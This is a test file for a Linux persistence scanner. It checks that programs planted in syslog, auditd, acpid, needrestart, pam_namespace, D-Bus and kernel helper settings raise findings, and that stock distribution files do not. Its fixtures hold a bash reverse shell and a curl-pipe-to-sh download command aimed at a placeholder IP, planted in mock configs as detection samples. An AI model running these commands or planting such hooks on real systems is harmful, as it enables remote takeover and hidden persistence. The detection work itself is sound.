/**
 * Programs daemons and the kernel run as root: rsyslog omprog, syslog-ng program(), auditd plugins, acpid
 * actions, needrestart hooks, pam_namespace's init script, CUPS backends, D-Bus session services and the
 * kernel's usermode helpers (core_pattern pipes, modprobe, uevent helper, poweroff_cmd). Each fires on a planted
 * program and stays quiet on the distribution's own files (tests/scanners/stock_roots_test.ts holds Debian's
 * copies of these files to that as well).
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import {
  parseAcpiEvent,
  parseAuditPlugin,
  parseRsyslogConf,
  parseSyslogNgConf,
} from "../../src/scanners/persistence/sources/daemon_hooks_parse.ts";
import { helperCommand } from "../../src/scanners/persistence/sources/kernel_helpers.ts";
import { installedCopy } from "./stock_fixture.ts";
import { makeTree, runOne } from "../helpers.ts";
import { dpkgOwns, exe, fired, withAccounts } from "./persistence_fixtures.ts";

const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1";
const FETCH = "curl -fsSL http://203.0.113.9/x | sh";

Deno.test("rsyslog: omprog in RainerScript across lines, legacy omprog and ^program, includes; comments ignored", () => {
  const r = parseRsyslogConf([
    '# action(type="omprog" binary="/commented")',
    'module(load="omprog")',
    '*.* action(type="omprog"',
    '         binary="/usr/local/bin/logger-hook --tag x" template="RSYSLOG_TraditionalFileFormat")',
    '/* action(type="omprog" binary="/in-a-block") */',
    "$ActionOMProgBinary /opt/h/prog",
    "auth.* ^/var/tmp/.r;tpl",
    "$IncludeConfig /etc/rsyslog.d/*.conf",
    'include(file="/etc/rsyslog.extra" mode="optional")',
    'action(type="omfile" file="/var/log/x")',
    "action(TYPE='omprog' Binary='/single/quoted')",
  ].join("\n"));
  assert.deepEqual(r.programs, [
    { line: 4, command: "/usr/local/bin/logger-hook --tag x" },
    { line: 6, command: "/opt/h/prog" },
    { line: 7, command: "/var/tmp/.r" },
    { line: 11, command: "/single/quoted" },
  ]);
  assert.deepEqual(r.includes, ["/etc/rsyslog.extra", "/etc/rsyslog.d/*.conf"]);
});

Deno.test("syslog-ng, auditd plugin and acpid parsers", () => {
  const ng = parseSyslogNgConf(
    '@include "scl.conf"\n# program("/commented")\ndestination d { program("/usr/bin/x \\"a\\"" template("t")); };\n',
  );
  assert.deepEqual(ng, { programs: [{ line: 3, command: '/usr/bin/x "a"' }], includes: ["scl.conf"] });
  assert.deepEqual(parseAuditPlugin("active = yes\npath = /sbin/audisp-syslog\nargs = LOG_INFO\n"), {
    active: true,
    command: "/sbin/audisp-syslog LOG_INFO",
    line: 2,
  });
  assert.deepEqual(parseAuditPlugin("active = yes\npath = builtin_af_unix\n"), { active: true, line: 2 });
  assert.deepEqual(parseAuditPlugin("ACTIVE=no\r\npath=/x\r\n"), { active: false, command: "/x", line: 2 });
  assert.deepEqual(parseAcpiEvent("event=button/power\r\naction=/etc/acpi/p.sh %e\r\naction=\n"), [
    { line: 2, command: "/etc/acpi/p.sh %e" },
  ]);
  assert.equal(helperCommand("core\n", true), undefined);
  assert.equal(helperCommand("| /x %p\n", true), "/x %p");
  assert.equal(helperCommand("/sbin/modprobe\n", false), "/sbin/modprobe");
  assert.equal(helperCommand("\n", false), undefined);
});

Deno.test("daemon hook parsers: malformed and hostile input never throws and takes linear time", () => {
  const inputs = [
    "action(",
    'action(type="omprog" binary="',
    "include(file=",
    "/* unclosed",
    '"unclosed quote action(type="omprog" binary="/x")',
    "action(".repeat(50_000),
    'action(type="omprog" binary="'.repeat(20_000),
    `action=${" ".repeat(200_000)}x`,
    `program("${'\\"'.repeat(100_000)}`,
    "$ActionOMProgBinary\n^\n*.* ^\n",
    "\0\uFFFD".repeat(1000),
  ];
  const started = performance.now();
  for (const text of inputs) {
    assert.ok(Array.isArray(parseRsyslogConf(text).programs));
    assert.ok(Array.isArray(parseSyslogNgConf(text).programs));
    assert.equal(typeof parseAuditPlugin(text).active, "boolean");
    assert.ok(Array.isArray(parseAcpiEvent(text)));
  }
  const ms = performance.now() - started;
  assert.ok(ms < 3000, `${ms.toFixed(0)} ms`);
});

Deno.test("persistence: planted programs of loggers, auditd, acpid, needrestart, pam_namespace and D-Bus fire", async () => {
  using root = makeTree(withAccounts({
    "etc/rsyslog.conf": "$IncludeConfig /etc/rsyslog.d/*.conf\n",
    "etc/rsyslog.d/50-fwd.conf": 'module(load="omprog")\n*.* action(type="omprog" binary="/dev/shm/.l")\n',
    "etc/syslog-ng/syslog-ng.conf": '@include "/etc/syslog-ng/conf.d/*.conf"\n',
    "etc/syslog-ng/conf.d/x.conf": `destination d { program("${REVERSE}"); };\n`,
    "etc/audit/plugins.d/health.conf": "active = yes\ndirection = out\npath = /var/tmp/.a\ntype = always\n",
    "etc/acpi/events/lid": `event=button/lid.*\naction=${FETCH}\n`,
    "etc/needrestart/hook.d/99-health": exe(`#!/bin/sh\n${REVERSE}\n`),
    "etc/needrestart/needrestart.conf": `$nrconf{restart} = 'a';\nsystem("${FETCH}");\n`,
    "etc/security/namespace.init": exe(`#!/bin/sh\n${FETCH}\nexit 0\n`),
    "home/alice/.local/share/dbus-1/services/org.health.service":
      "[D-BUS Service]\nName=org.health\nExec=/tmp/.h/agent\n",
    "var/tmp/.a": exe("#!/bin/sh\n"),
    "dev/shm/.l": exe("#!/bin/sh\n"),
    "tmp/.h/agent": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/needrestart/hook.d/99-health:2",
    "critical persistence.command.reverse_shell /etc/syslog-ng/conf.d/x.conf:1",
    "high persistence.command.download_exec /etc/acpi/events/lid:2",
    "high persistence.command.download_exec /etc/needrestart/needrestart.conf:2",
    "high persistence.command.download_exec /etc/security/namespace.init:2",
    "high persistence.command.untrusted_path /etc/audit/plugins.d/health.conf:3",
    "high persistence.command.untrusted_path /etc/rsyslog.d/50-fwd.conf:2",
    "high persistence.command.untrusted_path /home/alice/.local/share/dbus-1/services/org.health.service:3",
  ]);
  const dbus = r.findings.find((f) => f.metadata.kind === "dbus_service")!;
  assert.equal(dbus.metadata.run_as, "alice");
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: inactive plugins, commented actions and what needrestart would not run stay quiet", async () => {
  using root = makeTree(withAccounts({
    "etc/rsyslog.conf": '# *.* action(type="omprog" binary="/tmp/x")\n*.* /var/log/syslog\n',
    "etc/audit/plugins.d/off.conf": "active = no\npath = /var/tmp/.a\n",
    "etc/audit/plugins.d/af_unix.conf": "active = yes\npath = builtin_af_unix\ntype = builtin\n",
    // auditd 1:3.0.9-1 and audispd-plugins (Debian 12) ship these, inactive (comments left out).
    "etc/audit/plugins.d/syslog.conf":
      "active = no\ndirection = out\npath = /sbin/audisp-syslog\ntype = always \nargs = LOG_INFO\nformat = string\n",
    "etc/audit/plugins.d/au-remote.conf":
      "active = no\ndirection = out\npath = /sbin/audisp-remote\ntype = always\nformat = string\n",
    "etc/needrestart/hook.d/99-noexec": { content: `#!/bin/sh\n${REVERSE}\n`, mode: 0o644 },
    "etc/needrestart/hook.d/10-x.dpkg-old": exe(`#!/bin/sh\n${REVERSE}\n`),
    "etc/acpi/events/powerbtn": "event=button[ /]power\naction=/etc/acpi/powerbtn.sh\n",
    "etc/acpi/powerbtn.sh": exe('#!/bin/sh\n/sbin/shutdown -h now "Power button pressed"\n'),
    "var/tmp/.a": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: Debian's own daemon hook files are read, and quiet", async () => {
  using root = installedCopy("debian12");
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  const points = r.findings.filter((f) =>
    f.check_id === "persistence.inventory.point" &&
    (f.metadata.kind === "daemon_hook" || f.metadata.kind === "kernel_helper")
  ).map((f) => `${f.metadata.kind} ${f.metadata.path} ${f.metadata.entry_count}`);
  assert.deepEqual(points, [
    "daemon_hook /etc/rsyslog.conf 0",
    "daemon_hook /etc/syslog-ng/syslog-ng.conf 0",
    "daemon_hook /etc/syslog-ng/scl.conf 0",
    "daemon_hook /usr/share/syslog-ng/include/scl/default-network-drivers/plugin.conf 0",
    "daemon_hook /usr/share/syslog-ng/include/scl/ewmm/ewmm.conf 1",
    "daemon_hook /usr/share/syslog-ng/include/scl/getvirtconsole/plugin.conf 1",
    "daemon_hook /usr/share/syslog-ng/include/scl/iptables/iptables.conf 1",
    "daemon_hook /usr/share/syslog-ng/include/scl/loadbalancer/plugin.conf 1",
    "daemon_hook /usr/share/syslog-ng/include/scl/sudo/sudo.conf 1",
    "daemon_hook /usr/share/syslog-ng/include/scl/syslogconf/plugin.conf 1",
    "daemon_hook /usr/share/syslog-ng/include/scl/system/plugin.conf 0",
    "daemon_hook /etc/acpi/events/powerbtn-acpi-support 1",
    "daemon_hook /etc/needrestart/hook.d/10-dpkg 41",
    "daemon_hook /etc/needrestart/hook.d/20-rpm 39",
    "daemon_hook /etc/needrestart/hook.d/90-none 23",
    "daemon_hook /etc/needrestart/notify.d/200-write 24",
    "daemon_hook /etc/needrestart/notify.d/400-notify-send 32",
    "daemon_hook /etc/needrestart/notify.d/600-mail 24",
    "daemon_hook /etc/needrestart/restart.d/dbus.service 45",
    "daemon_hook /etc/needrestart/restart.d/systemd-manager 5",
    "daemon_hook /etc/needrestart/restart.d/sysv-init 5",
    "daemon_hook /etc/needrestart/needrestart.conf 0",
    "daemon_hook /etc/security/namespace.init 19",
    "kernel_helper /proc/sys/kernel/modprobe 1",
    "kernel_helper /proc/sys/kernel/poweroff_cmd 1",
  ]);
  assert.deepEqual(fired(r.findings), []);
});

Deno.test("persistence: a kernel usermode helper in an untrusted place or unpackaged fires, live and configured", async () => {
  using root = makeTree(withAccounts({
    "proc/sys/kernel/core_pattern": "|/var/tmp/.c %p %s\n",
    "proc/sys/kernel/modprobe": "/usr/local/sbin/kmod-helper\n",
    "sys/kernel/uevent_helper": "\n",
    "etc/sysctl.d/99-health.conf": "kernel.core_pattern = |/usr/lib/systemd/systemd-coredumpd %P\n",
    "proc/cmdline": "BOOT_IMAGE=/vmlinuz root=/dev/sda1 sysctl.kernel.poweroff_cmd=/dev/shm/p\n",
    "proc/sys/kernel/poweroff_cmd": "/bin/sh /usr/local/sbin/k4.sh\n",
    "bin/sh": exe("\x7fELF"),
    "usr/local/sbin/k4.sh": exe("#!/bin/sh\n"),
    "var/tmp/.c": exe("#!/bin/sh\n"),
    "usr/local/sbin/kmod-helper": exe("#!/bin/sh\n"),
    "usr/lib/systemd/systemd-coredumpd": exe("#!/bin/sh\n"),
    ...dpkgOwns("systemd", ["/usr/lib/systemd/systemd-coredump"]),
    ...dpkgOwns("dash", ["/bin/sh"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "high persistence.command.untrusted_path /proc/cmdline:1",
    "high persistence.command.untrusted_path /proc/sys/kernel/core_pattern",
    "medium persistence.command.unowned_program /etc/sysctl.d/99-health.conf:1",
    "medium persistence.kernel_helper.unowned /etc/sysctl.d/99-health.conf:1",
    "medium persistence.kernel_helper.unowned /proc/sys/kernel/core_pattern",
    "medium persistence.kernel_helper.unowned /proc/sys/kernel/modprobe",
    "medium persistence.kernel_helper.unowned /proc/sys/kernel/poweroff_cmd",
  ]);
  const modprobe = r.findings.find((f) => f.metadata.setting === "kernel.modprobe")!;
  assert.equal(modprobe.metadata.live, true);
  assert.match(modprobe.description, /module loader/);
});

Deno.test("persistence: stock kernel helpers (a core file name, a packaged handler) stay quiet", async () => {
  using root = makeTree(withAccounts({
    "proc/sys/kernel/core_pattern": "|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h\n",
    "proc/sys/kernel/modprobe": "/sbin/modprobe\n",
    "proc/sys/kernel/poweroff_cmd": "/sbin/poweroff\n",
    "usr/lib/sysctl.d/50-coredump.conf": "kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P %u %g\n",
    "etc/sysctl.d/10-core.conf": "kernel.core_pattern = /var/crash/core.%e.%p\n",
    "usr/lib/systemd/systemd-coredump": exe("\x7fELF"),
    "usr/sbin/modprobe": { symlink: "../bin/kmod" },
    "usr/bin/kmod": exe("\x7fELF"),
    "sbin": { symlink: "usr/sbin" },
    ...dpkgOwns("systemd", ["/usr/lib/systemd/systemd-coredump"]),
    ...dpkgOwns("kmod", ["/bin/kmod", "/sbin/modprobe"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: RHEL's and Ubuntu's crash-dump pipes (systemd-coredump, apport) are read, and quiet", async () => {
  for (
    const [name, expect] of [
      ["rhel9", [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/usr/lib/sysctl.d/50-coredump.conf",
      ]],
      ["ubuntu2404", ["/proc/sys/kernel/core_pattern"]],
    ] as const
  ) {
    using root = installedCopy(name);
    const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
    assert.equal(r.status, "ok", r.reason);
    const points = r.findings.filter((f) =>
      f.check_id === "persistence.inventory.point" && f.metadata.kind === "kernel_helper"
    ).map((f) => f.metadata.path).sort();
    assert.deepEqual(points, expect, name);
    assert.deepEqual(fired(r.findings), [], name);
  }
});
